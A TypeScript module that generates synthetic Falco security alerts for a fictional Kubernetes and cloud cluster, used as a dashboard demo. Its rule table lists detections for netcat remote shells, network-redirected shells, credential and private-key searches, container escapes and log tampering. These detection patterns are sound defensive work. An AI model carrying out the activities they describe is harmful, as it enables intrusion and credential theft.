// Demo alerts for `npm run demo`: a made-up production cluster (6 EKS nodes, 40 containers in 8
// namespaces, an AWS account and a GCP project) and the Falco alerts it raises, as JSON lines shaped
// like Falco 0.41+ with the container plugin. Pure: no I/O, no clock, no Math.random.
//
// Alerts are a function of (seed, wall-clock minute), not of the run: every minute of real time has
// its own fixed alerts, so two runs over overlapping windows produce identical alerts for the overlap
// (the store reports them as duplicates) and a later run only adds the minutes that are new. The
// only exception: the last ten minutes before `now` get extra alerts so the dashboard looks alive;
// a later run sends a subset of those. The cluster is the same for every seed; the seed changes
// what happens in it.
import { formatTimeNs } from '../lib/falco/time';

export interface DemoOptions {
  seed: number;
  /**
   * About this many alerts per `days`, averaged over a week: a one-day window on a Sunday holds fewer
   * than on a Wednesday (each minute's count is a Poisson draw around the daily rhythm).
   */
  alerts: number;
  days: number;
  /** The window ends here: no alert is later than this. */
  nowMs: number;
  /**
   * Only the alerts in (fromMs, toMs] of the window: exactly those the whole window has there, so
   * consecutive parts, generated apart (in parallel), make up the whole window.
   */
  part?: { fromMs: number; toMs: number };
}

export interface DemoAlert {
  timeNs: bigint;
  /** One alert as Falco writes it with json_output: keys sorted, on one line. */
  line: string;
}

const NS_PER_MS = 1_000_000n;
const MINUTE_MS = 60_000;
const HOUR_MS = 3_600_000;
const DAY_MS = 86_400_000;

// ─── Seeded randomness ───────────────────────────────────────────────────────────────────────────

type Rng = () => number;

function mulberry32(state: number): Rng {
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** A generator keyed by its parts: the same parts always give the same sequence. */
function rngFor(...parts: readonly (string | number)[]): Rng {
  const key = parts.join('|');
  let h = 0x811c9dc5;
  for (let i = 0; i < key.length; i++) h = Math.imul(h ^ key.charCodeAt(i), 0x01000193);
  h = Math.imul(h ^ (h >>> 16), 0x85ebca6b);
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35);
  return mulberry32((h ^ (h >>> 16)) >>> 0);
}

const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));
const chance = (rng: Rng, p: number) => rng() < p;

function pick<T>(rng: Rng, items: readonly T[]): T {
  const item = items[Math.floor(rng() * items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
}

function weighted<T>(rng: Rng, items: readonly (readonly [number, T])[]): T {
  let total = 0;
  for (const [weight] of items) total += weight;
  let r = rng() * total;
  for (const [weight, item] of items) {
    r -= weight;
    if (r < 0) return item;
  }
  const last = items[items.length - 1];
  if (!last) throw new Error('weighted pick from an empty list');
  return last[1];
}

function chars(rng: Rng, length: number, alphabet: string): string {
  let text = '';
  for (let i = 0; i < length; i++) text += alphabet.charAt(Math.floor(rng() * alphabet.length));
  return text;
}

const hex = (rng: Rng, length: number) => chars(rng, length, '0123456789abcdef');
// The alphabet Kubernetes uses for generated name suffixes (no vowels, no look-alikes).
const k8sSuffix = (rng: Rng, length: number) => chars(rng, length, 'bcdfghjklmnpqrstvwxz2456789');

/** A Poisson count from one uniform draw (inverse CDF), so a higher mean only adds events. */
function poisson(u: number, rng: Rng, mean: number): number {
  if (mean <= 0) return 0;
  if (mean > 50) {
    const z = Math.sqrt(-2 * Math.log(Math.max(u, 1e-12))) * Math.cos(2 * Math.PI * rng());
    return Math.max(0, Math.round(mean + Math.sqrt(mean) * z));
  }
  let p = Math.exp(-mean);
  let cdf = p;
  let k = 0;
  while (u > cdf && k < 1_000) {
    k++;
    p *= mean / k;
    cdf += p;
  }
  return k;
}

// ─── Rules ───────────────────────────────────────────────────────────────────────────────────────

type Priority = 'Critical' | 'Error' | 'Warning' | 'Notice' | 'Informational' | 'Debug';
type FieldValue = string | number | bigint | boolean | null | readonly string[];
type Fields = Record<string, FieldValue>;

interface RuleDef {
  name: string;
  priority: Priority;
  source: string;
  tags: readonly string[];
  template: string;
  /** The %fields of the template, in order: exactly the output_fields keys Falco sends. */
  fields: readonly string[];
}

// The 25 stable rules of falco_rules.yaml and a selection of plugin rules, copied from
// e2e/fixtures/falco/default-rules.tsv and shared/falco/corpus/plugin-rules.tsv: rule, priority,
// source, tags, output template.
const RULE_TABLE: readonly (readonly [string, Priority, string, string, string])[] = [
  ['Directory traversal monitored file read', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_credential_access,T1555',
    'Read monitored file via directory traversal | file=%fd.name fileraw=%fd.nameraw gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Read sensitive file trusted after startup', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_credential_access,T1555',
    'Sensitive file opened for reading by trusted program after startup | file=%fd.name pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Read sensitive file untrusted', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_credential_access,T1555',
    'Sensitive file opened for reading by non-trusted program | file=%fd.name gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Run shell untrusted', 'Notice', 'syscall', 'maturity_stable,host,container,process,shell,mitre_execution,T1059.004',
    'Shell spawned by untrusted binary | parent_exe=%proc.pexe parent_exepath=%proc.pexepath pcmdline=%proc.pcmdline gparent=%proc.aname[2] ggparent=%proc.aname[3] aname[4]=%proc.aname[4] aname[5]=%proc.aname[5] aname[6]=%proc.aname[6] aname[7]=%proc.aname[7] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['System user interactive', 'Informational', 'syscall', 'maturity_stable,host,container,users,mitre_execution,T1059,NIST_800-53_AC-2',
    'System user ran an interactive command | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Terminal shell in container', 'Notice', 'syscall', 'maturity_stable,container,shell,mitre_execution,T1059',
    'A shell was spawned in a container with an attached terminal | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Contact K8S API Server From Container', 'Notice', 'syscall', 'maturity_stable,container,network,k8s,mitre_discovery,T1565',
    'Unexpected connection to K8s API Server from container | connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Netcat Remote Code Execution in Container', 'Warning', 'syscall', 'maturity_stable,container,network,process,mitre_execution,T1059',
    'Netcat runs inside container that allows remote code execution | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Search Private Keys or Passwords', 'Warning', 'syscall', 'maturity_stable,host,container,process,filesystem,mitre_credential_access,T1552.001',
    'Grep private keys or passwords activities found | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Clear Log Activities', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_defense_evasion,T1070,NIST_800-53_AU-10',
    'Log files were tampered | file=%fd.name evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Remove Bulk Data from Disk', 'Warning', 'syscall', 'maturity_stable,host,container,process,filesystem,mitre_impact,T1485',
    'Bulk data has been removed from disk | file=%fd.name evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Create Symlink Over Sensitive Files', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_credential_access,T1555',
    'Symlinks created over sensitive files | target=%evt.arg.target linkpath=%evt.arg.linkpath evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Create Hardlink Over Sensitive Files', 'Warning', 'syscall', 'maturity_stable,host,container,filesystem,mitre_credential_access,T1555',
    'Hardlinks created over sensitive files | target=%evt.arg.oldpath linkpath=%evt.arg.newpath evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Packet socket created in container', 'Notice', 'syscall', 'maturity_stable,container,network,mitre_credential_access,T1557.002',
    'Packet socket was created in a container | socket_info=%evt.args connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Redirect STDOUT/STDIN to Network Connection in Container', 'Notice', 'syscall', 'maturity_stable,container,network,process,mitre_execution,T1059',
    'Redirect stdout/stdin to network connection | gparent=%proc.aname[2] ggparent=%proc.aname[3] gggparent=%proc.aname[4] fd.sip=%fd.sip connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Linux Kernel Module Injection Detected', 'Warning', 'syscall', 'maturity_stable,host,container,process,mitre_persistence,TA0003',
    'Linux Kernel Module injection from container | parent_exepath=%proc.pexepath gparent=%proc.aname[2] gexepath=%proc.aexepath[2] module=%proc.args res=%evt.res evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Debugfs Launched in Privileged Container', 'Warning', 'syscall', 'maturity_stable,container,cis,process,mitre_privilege_escalation,T1611',
    'Debugfs launched started in a privileged container | evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Detect release_agent File Container Escapes', 'Critical', 'syscall', 'maturity_stable,container,process,mitre_privilege_escalation,T1611',
    'Detect an attempt to exploit a container escape using release_agent file | file=%fd.name cap_effective=%thread.cap_effective evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['PTRACE attached to process', 'Warning', 'syscall', 'maturity_stable,host,container,process,mitre_privilege_escalation,T1055.008',
    'Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=%proc.pcmdline evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['PTRACE anti-debug attempt', 'Notice', 'syscall', 'maturity_stable,host,container,process,mitre_defense_evasion,T1622',
    'Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=%proc.pcmdline evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Find AWS Credentials', 'Warning', 'syscall', 'maturity_stable,host,container,process,aws,mitre_credential_access,T1552',
    'Detected AWS credentials search activity | proc_pcmdline=%proc.pcmdline proc_cwd=%proc.cwd group_gid=%group.gid group_name=%group.name user_loginname=%user.loginname evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Execution from /dev/shm', 'Warning', 'syscall', 'maturity_stable,host,container,mitre_execution,T1059.004',
    'File execution detected from /dev/shm | evt_res=%evt.res file=%fd.name proc_cwd=%proc.cwd proc_pcmdline=%proc.pcmdline user_loginname=%user.loginname group_gid=%group.gid group_name=%group.name evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Drop and execute new binary in container', 'Critical', 'syscall', 'maturity_stable,container,process,mitre_persistence,TA0003,PCI_DSS_11.5.1',
    'Executing binary not part of base image | proc_exe=%proc.exe proc_sname=%proc.sname gparent=%proc.aname[2] proc_exe_ino_ctime=%proc.exe_ino.ctime proc_exe_ino_mtime=%proc.exe_ino.mtime proc_exe_ino_ctime_duration_proc_start=%proc.exe_ino.ctime_duration_proc_start proc_cwd=%proc.cwd container_start_ts=%container.start_ts evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Disallowed SSH Connection Non Standard Port', 'Notice', 'syscall', 'maturity_stable,host,container,network,process,mitre_execution,T1059',
    'Disallowed SSH Connection | connection=%fd.name lport=%fd.lport rport=%fd.rport fd_type=%fd.type fd_proto=%fd.l4proto evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty'],
  ['Fileless execution via memfd_create', 'Critical', 'syscall', 'maturity_stable,host,container,process,mitre_defense_evasion,T1620',
    'Fileless execution via memfd_create | container_start_ts=%container.start_ts proc_cwd=%proc.cwd evt_res=%evt.res proc_sname=%proc.sname gparent=%proc.aname[2] evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty exe_flags=%evt.arg.flags'],
  ['Disallowed K8s User', 'Warning', 'k8s_audit', 'k8s',
    'K8s Operation performed by user not in allowed list of users (user=%ka.user.name target=%ka.target.name/%ka.target.resource verb=%ka.verb uri=%ka.uri resp=%ka.response.code)'],
  ['Attach/Exec Pod', 'Notice', 'k8s_audit', 'k8s',
    'Attach/Exec to pod (user=%ka.user.name pod=%ka.target.name resource=%ka.target.resource ns=%ka.target.namespace action=%ka.target.subresource command=%ka.uri.param[command])'],
  ['Create Privileged Pod', 'Warning', 'k8s_audit', 'k8s',
    'Pod started with privileged container (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource ns=%ka.target.namespace images=%ka.req.pod.containers.image init_images=%ka.req.pod.initContainers.image ephemeral_images=%ka.req.pod.ephemeralContainers.image)'],
  ['Create Sensitive Mount Pod', 'Warning', 'k8s_audit', 'k8s',
    'Pod started with sensitive mount (user=%ka.user.name pod=%ka.resp.name ns=%ka.target.namespace resource=%ka.target.resource images=%ka.req.pod.containers.image volumes=%jevt.value[/requestObject/spec/volumes])'],
  ['K8s Secret Get Successfully', 'Error', 'k8s_audit', 'k8s',
    'K8s Secret Get Successfully (user=%ka.user.name secret=%ka.target.name ns=%ka.target.namespace resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)'],
  ['K8s Deployment Created', 'Informational', 'k8s_audit', 'k8s',
    'K8s Deployment Created (user=%ka.user.name deployment=%ka.target.name ns=%ka.target.namespace resource=%ka.target.resource resp=%ka.response.code decision=%ka.auth.decision reason=%ka.auth.reason)'],
  ['Create NodePort Service', 'Warning', 'k8s_audit', 'k8s',
    'NodePort Service Created (user=%ka.user.name service=%ka.target.name resource=%ka.target.resource ns=%ka.target.namespace ports=%ka.req.service.ports)'],
  ['Pod Created in Kube Namespace', 'Warning', 'k8s_audit', 'k8s',
    'Pod created in kube namespace (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource ns=%ka.target.namespace images=%ka.req.pod.containers.image)'],
  ['Create HostNetwork Pod', 'Warning', 'k8s_audit', 'k8s',
    'Pod started using host network (user=%ka.user.name pod=%ka.resp.name resource=%ka.target.resource ns=%ka.target.namespace images=%ka.req.pod.containers.image)'],
  ['Console Login Without MFA', 'Critical', 'aws_cloudtrail', 'cloud,aws,aws_console,aws_iam',
    'Detected a console login without MFA (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region)'],
  ['Create AWS user', 'Informational', 'aws_cloudtrail', 'cloud,aws,aws_iam',
    'A new AWS user has been created (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region, new user created=%ct.request.username)'],
  ['CloudTrail Logging Disabled', 'Warning', 'aws_cloudtrail', 'cloud,aws,aws_cloudtrail',
    'The CloudTrail logging has been disabled. (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region, resource name=%ct.request.name)'],
  ['Put Bucket Policy', 'Warning', 'aws_cloudtrail', 'cloud,aws,aws_s3',
    'An Amazon S3 bucket policy has been applied to an Amazon S3 bucket. (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region, bucket name=%s3.bucket, policy=%ct.request.policy)'],
  ['List Buckets', 'Warning', 'aws_cloudtrail', 'cloud,aws,aws_s3',
    'A list of all S3 buckets has been requested. (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region, host=%ct.request.host)'],
  ['Delete Bucket Public Access Block', 'Critical', 'aws_cloudtrail', 'cloud,aws,aws_s3',
    'A public access block for a bucket has been deleted (requesting user=%ct.user, requesting IP=%ct.srcip, AWS region=%ct.region, bucket=%s3.bucket)'],
  ['GCP IAM service account key created', 'Notice', 'gcp_auditlog', 'GCP,IAM,abuse-elevation-control-mechanism',
    'project=%gcp.projectId A GCP service account key was created by user=%gcp.user userIP=%gcp.callerIP userAgent=%gcp.userAgent authorizationInfo=%gcp.authorizationInfo rawRequest=%gcp.request'],
  ['GCP Bucket enumerated', 'Notice', 'gcp_auditlog', 'GCP,buckets,TA0007-discovery,T1083-file-and-directory-discovery',
    'project=%gcp.projectId A GCS bucket\'s content has been listed to user=%gcp.user userIP=%gcp.callerIP userAgent=%gcp.userAgent authorizationInfo=%gcp.authorizationInfo rawRequest=%gcp.request bucketName=%gcp.storage.bucket'],
  ['GCP GCE Firewall rule modified', 'Notice', 'gcp_auditlog', 'GCP,Firewall,TA0005-defense-evasion,T1562-impair-defenses',
    'project=%gcp.projectId A GCP GCE Firewall rule was modified by user=%gcp.user userIP=%gcp.callerIP userAgent=%gcp.userAgent authorizationInfo=%gcp.authorizationInfo rawRequest=%gcp.request'],
  ['GCP Bucket configured to be public', 'Critical', 'gcp_auditlog', 'GCP,buckets,compliance',
    'project=%gcp.projectId A GCP bucket has been granted public access by user=%gcp.user userIP=%gcp.callerIP userAgent=%gcp.userAgent bindedDelta=%gcp.policyDelta authorizationInfo=%gcp.authorizationInfo rawRequest=%gcp.request bucketName=%gcp.storage.bucket'],
  ['GCP IAM policy modified', 'Notice', 'gcp_auditlog', 'GCP,IAM,abuse-elevation-control-mechanism',
    'project=%gcp.projectId A GCP IAM policy was modified by user=%gcp.user bindingPolicy=%gcp.policyDelta userIP=%gcp.callerIP userAgent=%gcp.userAgent authorizationInfo=%gcp.authorizationInfo rawRequest=%gcp.request'],
  // Falco's own health report: no time prefix, no tags, counters as strings (see corpus line 24).
  ['Falco internal: syscall event drop', 'Debug', 'internal', '',
    'Falco internal: syscall event drop. %n_drops system calls dropped in last second.'],
];

const FIELD_PATTERN = /%([A-Za-z_][\w.]*(?:\[[^\]\s]*\])?)/g;
// A template may end a field with a full stop ("%ct.request.name."): it is text, not part of the name.
const fieldName = (raw: string) => raw.replace(/\.+$/, '');

const RULES = new Map<string, RuleDef>(
  RULE_TABLE.map(([name, priority, source, tags, template]) => [
    name,
    {
      name,
      priority,
      source,
      tags: tags.split(',').filter((tag) => tag !== '').sort(),
      template,
      fields: [...new Set([...template.matchAll(FIELD_PATTERN)].map((match) => fieldName(match[1] ?? '')))],
    },
  ]),
);

function ruleOrThrow(name: string): RuleDef {
  const rule = RULES.get(name);
  if (!rule) throw new Error(`demo rule not defined: ${name}`);
  return rule;
}

// ─── The cluster ─────────────────────────────────────────────────────────────────────────────────

interface Proc {
  name: string;
  exe: string;
  cmdline: string;
  /** argv[0] when it differs from the executable path (`proc.exe`). */
  argv0?: string;
  pid?: number;
}

/** A process as Falco names it: proc.cmdline is the comm name followed by the arguments. */
const proc = (name: string, exe: string, args = '', extra: Partial<Proc> = {}): Proc => ({
  name,
  exe,
  cmdline: args ? `${name} ${args}` : name,
  ...extra,
});

interface User {
  name: string;
  uid: number;
  loginuid: number;
  loginname: string;
  group: string;
  gid: number;
}

const account = (name: string, uid: number, group = name, gid = uid): User => ({ name, uid, loginuid: -1, loginname: '<NA>', group, gid });
const loggedIn = (user: User): User => ({ ...user, loginuid: user.uid, loginname: user.name });
const ROOT = account('root', 0);
/** root after sudo: the login uid still names the person. */
const sudoRoot = (admin: User): User => ({ ...ROOT, loginuid: admin.uid, loginname: admin.name });
const ADMINS = [account('alice', 1001), account('bob', 1002), account('priya', 1003), account('marek', 1004)].map(loggedIn);
const K8S_PEOPLE = ['alice@example.com', 'bob@example.com', 'priya@example.com', 'marek@example.com', 'kubernetes-admin'];

interface Host {
  index: number;
  name: string;
  ip: string;
  /** Nodes whose Falco config appends pids and ancestors (append_output → extra_fields). */
  extraFields: boolean;
  /** New processes per second. */
  pidRate: number;
}

const HOSTS: readonly Host[] = (
  [['10.0.11.27', false], ['10.0.12.164', false], ['10.0.13.52', false], ['10.0.21.9', true], ['10.0.22.201', true], ['10.0.31.88', true]] as const
).map(([ip, extraFields], index) => ({
  index,
  ip,
  name: `ip-${ip.replaceAll('.', '-')}.ec2.internal`,
  extraFields,
  pidRate: 0.4 + 0.2 * index,
}));

function hostAt(index: number): Host {
  const host = HOSTS[index];
  if (!host) throw new Error(`no demo host ${index}`);
  return host;
}

// k8saudit and the cloud plugins run in one Falco deployment each, scheduled on these nodes.
const AUDIT_HOST = hostAt(0);
const CLOUD_HOST = hostAt(1);
const CI_HOST = hostAt(5);

const REBOOT_PERIOD_MS = 30 * DAY_MS;

/** Nodes reboot for patching every 30 days, each on its own day, at 03:00 UTC. */
function hostBootMs(host: Host, tMs: number): number {
  const offset = host.index * 5 * DAY_MS + 3 * HOUR_MS;
  return Math.floor((tMs - offset) / REBOOT_PERIOD_MS) * REBOOT_PERIOD_MS + offset;
}

/** The pid a node hands out at a moment: counting up from boot (which takes the first ~2,000), never wrapping. */
const hostPidAt = (host: Host, tMs: number) => 2_000 + Math.floor(((tMs - hostBootMs(host, tMs)) / 1000) * host.pidRate);

/** The pid of a process started `agoMs` before `tMs`, or just after boot if the node booted since. */
const pidStartedAgo = (host: Host, tMs: number, agoMs: number) => hostPidAt(host, Math.max(tMs - agoMs, hostBootMs(host, tMs) + 60_000));

type Kind =
  | 'java' | 'python' | 'node' | 'ingress' | 'postgres' | 'redis' | 'kafka' | 'prometheus' | 'exporter' | 'grafana'
  | 'alertmanager' | 'cni' | 'csi' | 'runner' | 'build-go' | 'build-node' | 'build-python' | 'dind' | 'netshoot'
  | 'toolbox' | 'node-debugger';
type Base = 'debian' | 'alpine' | 'busybox' | 'amazonlinux';

interface Profile {
  kind: Kind;
  base: Base;
  /** The container's processes from its init down to the one that does the work. */
  main: readonly Proc[];
  user: User;
  /** Who `kubectl exec` runs as when it differs from the main process's user. */
  execUser?: User;
  cwd: string;
  shells: readonly string[];
  privileged?: boolean;
  /** How often people exec into it. */
  execWeight: number;
}

interface Container {
  id: string;
  fullId: string;
  sandboxId: string;
  name: string;
  pod: string;
  ns: string;
  repo: string;
  tag: string;
  host: Host;
  ip: string;
  profile: Profile;
  restartPeriodMs: number;
  restartPhaseMs: number;
}

const BUSYBOX_APPLETS = new Set(['sh', 'cat', 'find', 'grep', 'ln', 'truncate', 'shred', 'wget', 'nc', 'sleep', 'head', 'chmod', 'env', 'ls']);
const TOOL_PATHS: Record<string, string> = {
  nc: '/usr/bin/nc.traditional', python3: '/usr/local/bin/python3.12', tcpdump: '/usr/bin/tcpdump', strace: '/usr/bin/strace',
  gdb: '/usr/bin/gdb', 'py-spy': '/usr/local/bin/py-spy', psql: '/usr/lib/postgresql/16/bin/psql', modprobe: '/sbin/modprobe',
  insmod: '/usr/sbin/insmod', debugfs: '/usr/sbin/debugfs', zsh: '/bin/zsh', su: '/usr/bin/su',
};

function toolPath(base: Base, name: string): string {
  if ((base === 'alpine' || base === 'busybox') && BUSYBOX_APPLETS.has(name)) return '/bin/busybox';
  if (name === 'bash') return base === 'alpine' ? '/bin/bash' : '/usr/bin/bash';
  if (name === 'sh') return base === 'debian' ? '/usr/bin/dash' : '/usr/bin/bash';
  return TOOL_PATHS[name] ?? `/usr/bin/${name}`;
}

const tool = (base: Base, name: string, args = '') => proc(name, toolPath(base, name), args);

const ECR = '123456789012.dkr.ecr.us-east-1.amazonaws.com';
const EKS_ECR = '602401143452.dkr.ecr.us-east-1.amazonaws.com';
const RUNNER_HELPER = 'registry.gitlab.com/gitlab-org/gitlab-runner/gitlab-runner-helper:x86_64-v16.11.0';

function javaApp(jar: string, user: User): Profile {
  return {
    kind: 'java', base: 'debian', user, cwd: '/app/', shells: ['bash', 'sh'], execWeight: 3,
    main: [proc('java', '/opt/java/openjdk/bin/java', `-XX:MaxRAMPercentage=75.0 -XX:+ExitOnOutOfMemoryError -jar /app/${jar}.jar`)],
  };
}

function gunicornApp(module: string, user: User): Profile {
  // gunicorn's master forks the workers, so both carry the command line of the exec.
  const gunicorn = proc('gunicorn', '/usr/local/bin/python3.12', `--bind 0.0.0.0:8080 --workers 4 --timeout 30 ${module}`, {
    argv0: '/usr/local/bin/python3.12',
  });
  return { kind: 'python', base: 'debian', user, cwd: '/srv/app/', shells: ['bash', 'sh'], execWeight: 3, main: [gunicorn, gunicorn] };
}

function buildProfile(kind: 'build-go' | 'build-node' | 'build-python', project: string): Profile {
  return {
    kind, base: 'debian', user: ROOT, cwd: `/builds/acme/${project}/`, shells: ['bash'], execWeight: 0.3,
    main: [tool('debian', 'bash')],
  };
}

const INGRESS_ARGS =
  '--publish-service=ingress-nginx/ingress-nginx-controller --election-id=ingress-nginx-leader --controller-class=k8s.io/ingress-nginx --ingress-class=nginx --configmap=ingress-nginx/ingress-nginx-controller';
const NGINX = proc('nginx', '/usr/bin/nginx', '-c /etc/nginx/nginx.conf');

interface Workload {
  app: string;
  ns: string;
  naming: 'deployment' | 'statefulset' | 'daemonset' | 'pod' | 'ci' | 'debugger';
  container: string;
  image: string;
  nodes: readonly number[];
  hostNetwork?: boolean;
  profile: Profile;
}

const WORKLOADS: readonly Workload[] = [
  { app: 'payments-api', ns: 'payments', naming: 'deployment', container: 'payments-api', image: `${ECR}/payments/payments-api:2.14.3`, nodes: [1, 3, 4], profile: javaApp('payments-api', account('app', 1000)) },
  { app: 'fraud-scorer', ns: 'payments', naming: 'deployment', container: 'scorer', image: `${ECR}/payments/fraud-scorer:1.8.0`, nodes: [2, 4], profile: gunicornApp('scorer.wsgi:app', account('scorer', 10001)) },
  { app: 'ledger-worker', ns: 'payments', naming: 'deployment', container: 'ledger-worker', image: `${ECR}/payments/ledger-worker:2.14.3`, nodes: [3], profile: javaApp('ledger-worker', account('app', 1000)) },
  {
    app: 'checkout-web', ns: 'checkout', naming: 'deployment', container: 'web', image: `${ECR}/checkout/checkout-web:5.2.1`, nodes: [1, 2, 4],
    profile: { kind: 'node', base: 'alpine', user: account('node', 1000), cwd: '/usr/src/app/', shells: ['sh'], execWeight: 3, main: [proc('node', '/usr/local/bin/node', '--enable-source-maps dist/server.js')] },
  },
  // Runs as root: an old Dockerfile nobody has fixed, which is why it shows up in the sensitive-file rules.
  { app: 'cart-service', ns: 'checkout', naming: 'deployment', container: 'cart', image: `${ECR}/checkout/cart-service:3.0.7`, nodes: [2, 3, 4], profile: gunicornApp('cart.app:create_app()', ROOT) },
  {
    app: 'aws-node', ns: 'kube-system', naming: 'daemonset', container: 'aws-node', image: `${EKS_ECR}/amazon-k8s-cni:v1.18.1-eksbuild.1`, nodes: [0, 2, 4], hostNetwork: true,
